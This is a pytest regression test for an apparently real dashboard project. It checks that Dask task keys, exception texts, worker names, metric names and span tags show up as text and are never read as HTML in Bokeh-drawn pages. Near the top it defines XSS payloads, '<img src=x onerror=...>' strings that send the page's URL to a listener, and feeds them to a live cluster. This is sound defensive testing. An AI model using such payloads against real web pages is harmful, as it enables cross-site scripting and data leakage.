"""Every page dashdock draws shows what a scheduler's clients name as text, never as markup.

A client chooses its task keys, exception texts and span tags, a worker its name and the names of
its metrics. Here each of them is an ``<img onerror>`` that would send the page's view URL to a
listener (the attack issue 40 replayed against the Exceptions pane), on a real cluster. Each drawn
page's document is pulled through the proxy, as a pane's, and looked at where the browser would
read HTML: table cell templates (Exceptions), column titles (the Workers table's metric column),
selector labels (Fine Performance Metrics' span tags and functions), and any other text attribute.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from _bokeh import BokehMessage, models, receive
from _drawn import dashboard_root, in_process_cluster, scheduler_sessions
from _support import Jupyter
from dask.utils import key_split
from distributed import Client, Worker, span, wait
from test_drawn_fine_metrics import _document
from test_drawn_state_plots import _connect, _source_drawing
from test_history_api import eventually

from dashdock.kernel import plot_state
from dashdock.live.plots import DRAWN

pytestmark = pytest.mark.slow  # a cluster and a recorder with its plot server

SENDS_URL = "location.href=`http://127.0.0.1:9/nav?`+encodeURIComponent(location.href)"
KEY = f'<img src=x onerror="{SENDS_URL}">-key'
EXCEPTION = f'<img src=x onerror="{SENDS_URL}"> in the exception text'
WORKER = f'<img src=x onerror="{SENDS_URL}">-worker'
METRIC = f'<img src=x onerror="{SENDS_URL}">-metric'
TAG = f'<img src=x onerror="{SENDS_URL}">-tag'
MARK = "onerror="

# Where Bokeh draws a string on canvas or sets it as text: a scheduler's name may be there as it is.
AS_TEXT = {
    ("ColumnDataSource", "data"),  # glyphs, tooltips (escaped by Bokeh) and formatted cells
    ("Title", "text"),
    ("TableColumn", "field"),  # the name of a data column, never shown
    ("FactorRange", "factors"),
    ("LegendItem", "label"),
    ("MultiChoice", "value"),  # values; what shows is an option's label
    ("Select", "options"),
    ("Select", "value"),
}


def _fails(key: str) -> None:
    raise ValueError(EXCEPTION)


def _one(x: int) -> int:
    return x + 1


def _strings(node: Any) -> Iterator[str]:
    """The strings of an attribute's value, not those of the models it holds (looked at apart)."""
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict) and node.get("type") != "object":
        for value in node.values():
            yield from _strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from _strings(value)


def _markup(document: BokehMessage) -> list[str]:
    """Where the document would have the browser read a scheduler's name as HTML."""
    found = []
    for name, attributes, _ in models(document):
        if name == "HTMLTemplateFormatter" and "<%=" in str(attributes.get("template", "")):
            found.append(f"{name}.template interpolates raw HTML: {attributes['template']}")
        for attribute, value in attributes.items():
            if (name, attribute) in AS_TEXT or not isinstance(value, (str, list, dict)):
                continue
            if name == "MultiChoice" and attribute == "options":
                labels = [option[1] if isinstance(option, list) else option for option in value]
                found += [f"MultiChoice label {label!r}" for label in labels if "<" in str(label)]
            elif name != "ColumnDataSource":
                found += [f"{name}.{attribute}: {text[:60]!r}" for text in _strings(value) if "<img" in text]
    return found


def _shows(document: BokehMessage, name: str) -> bool:
    """Whether the document holds ``name``, as it is or escaped (so the page has it to show)."""
    escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    texts = [text for _, attributes, _ in models(document) for text in _strings(attributes)]
    return any(name in text or escaped in text for text in texts)


async def _holding(connection: Any, names: list[str], path: str) -> BokehMessage:
    """The page's document once it holds every one of ``names`` (each reaches the mirror by a tick)."""
    document = await _document(connection)

    async def holds_all() -> bool:
        nonlocal document
        document = await _document(connection)
        return all(_shows(document, name) for name in names)

    shown = [text[:200] for _, attributes, _ in models(document) for text in _strings(attributes)]
    assert await eventually(holds_all, 60), (path, [text for text in shown if "img" in text])
    return document


async def test_every_drawn_page_shows_what_the_scheduler_names_as_text(jupyter: Jupyter) -> None:
    with in_process_cluster(threads_per_worker=1) as cluster:
        plot_state.offer(cluster.scheduler)
        async with (
            Worker(cluster.scheduler_address, name=WORKER, nthreads=1, metrics={METRIC: lambda _: 1.0}),
            Client(cluster.scheduler_address, asynchronous=True) as client,
        ):
            source_id = await _source_drawing(jupyter, dashboard_root(cluster), DRAWN)
            failed = client.submit(_fails, 1, key=KEY)
            with span(TAG):
                done = client.map(_one, range(8))
            await wait([failed, *done])
            assert cluster.scheduler.tasks[KEY].exception_text  # Dask has the hostile texts to show
            assert any(ws.name == WORKER for ws in cluster.scheduler.workers.values())

            # Where today's pages read them as HTML: each page must hold the name, else a page
            # that shows nothing would pass.
            expected = {
                "/individual-exceptions": [KEY, EXCEPTION],
                "/individual-workers": [WORKER, METRIC],
                "/individual-fine-performance-metrics": [TAG],
                "/individual-task-stream": [key_split(KEY)],
            }
            for path in DRAWN:
                connection = await _connect(jupyter, source_id, path)
                try:
                    assert (await receive(connection)).msgtype == "ACK"
                    document = await _holding(connection, expected.get(path, []), path)
                    assert _markup(document) == [], path
                finally:
                    connection.close()
            assert scheduler_sessions(cluster) == 0  # every page was ours
            del failed, done
